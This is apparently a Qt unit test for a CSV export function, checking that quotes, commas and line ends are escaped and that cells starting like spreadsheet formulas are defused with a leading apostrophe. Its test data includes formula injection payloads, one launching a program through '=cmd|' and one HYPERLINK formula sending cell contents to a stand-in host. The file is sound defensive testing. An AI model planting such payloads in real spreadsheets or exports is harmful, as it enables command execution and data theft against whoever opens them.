// SPDX-License-Identifier: GPL-3.0-or-later
// Comma-separated values: any cell comes back as it was, and none is a formula.
#include <QTest>

#include "app/tray/csv.h"

using namespace fallow::tray;

class CsvTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void writes_a_cell_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("written");
        QTest::newRow("empty") << ""
                               << "";
        QTest::newRow("a word") << "primes"
                                << "primes";
        QTest::newRow("a number") << "1.5"
                                  << "1.5";
        QTest::newRow("other scripts") << QStringLiteral("素数 αβ") << QStringLiteral("素数 αβ");
        QTest::newRow("a comma") << "a,b"
                                 << "\"a,b\"";
        QTest::newRow("quotes") << "say \"a\""
                                << "\"say \"\"a\"\"\"";
        QTest::newRow("only a quote") << "\""
                                      << "\"\"\"\"";
        QTest::newRow("a line end") << "a\nb"
                                    << "\"a\nb\"";
        QTest::newRow("a carriage return") << "a\rb"
                                           << "\"a\rb\"";
        QTest::newRow("a formula") << "=1+1"
                                   << "'=1+1";
        QTest::newRow("a formula by plus") << "+1"
                                           << "'+1";
        QTest::newRow("a formula by minus") << "-1+1"
                                            << "'-1+1";
        QTest::newRow("a formula by at") << "@SUM(A1)"
                                         << "'@SUM(A1)";
        QTest::newRow("a formula that calls a program") << "=cmd|' /C calc'!A0"
                                                        << "'=cmd|' /C calc'!A0";
        QTest::newRow("a formula that sends away") << "=HYPERLINK(\"http://e/?\"&A1,\"x\")"
                                                   << "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"";
        QTest::newRow("a formula after a tab") << "\t=1"
                                               << "'\t=1";
        QTest::newRow("a formula after a space") << " =1"
                                                 << "' =1";
        QTest::newRow("a formula after a line end") << "\r\n=1"
                                                    << "\"'\r\n=1\"";
        QTest::newRow("a formula in wide letters") << QStringLiteral("＝1") << QStringLiteral("'＝1");
        QTest::newRow("a sign within") << "a=b"
                                       << "a=b";
    }
    void writes_a_cell()
    {
        QFETCH(QString, cell);
        QFETCH(QString, written);
        QCOMPARE(QString::fromUtf8(csv({{"x", cell}})), "x," + written + "\r\n");
    }
    void writes_rows()
    {
        QCOMPARE(csv({{"a", "b"}, {"", ""}, {"1,2", "=3"}}), "a,b\r\n,\r\n\"1,2\",'=3\r\n");
        QCOMPARE(csv({}), "");
    }
    void a_long_cell_stays_whole()
    {
        const QString cell(10'000, 'x');
        QCOMPARE(csv({{cell}}), cell.toUtf8() + "\r\n");
    }
};

QTEST_APPLESS_MAIN(CsvTest)
#include "csv_test.moc"
